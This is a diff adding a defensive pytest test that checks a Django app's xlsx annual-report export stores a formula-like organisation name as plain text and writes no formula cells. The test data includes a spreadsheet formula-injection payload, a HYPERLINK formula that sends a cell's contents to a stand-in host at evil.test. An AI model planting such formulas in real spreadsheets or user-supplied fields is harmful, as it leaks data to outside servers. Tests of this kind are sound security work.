@@ -176,6 +176,33 @@ def test_annual_report_as_xlsx_has_each_table_on_its_own_sheet(
     }
 
 
+def test_annual_report_as_xlsx_keeps_a_formula_like_name_as_text(
+    tenant_a: Tenant, world: None, django_capture_on_commit_callbacks: Any
+) -> None:
+    name = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
+    with scopes_disabled():
+        org = follow(tenant_a.cluster, OrganisationFactory(name=name, kind="pme"))
+        Membership.objects.create(
+            cluster=tenant_a.cluster, organisation=org, year=2010, status="active"
+        )
+    client = _english(client_for(tenant_a.people[Role.PROJECT_MANAGER]))
+    url = reverse("results_reports:annual", args=[tenant_a.cluster.slug])
+    _job, content = _run(
+        client, url, {"year": 2010, "format": "xlsx"}, django_capture_on_commit_callbacks
+    )
+    members = load_workbook(io.BytesIO(content))["Members in 2010"]
+    cells = [row[0] for row in members.iter_rows(min_row=2)]
+    assert name in [c.value for c in cells]
+    workbook = load_workbook(io.BytesIO(content))
+    assert not [
+        c.coordinate
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
+
+
 def test_funders_report_holds_aggregates_and_never_an_application(
     tenant_a: Tenant,
     world: None,
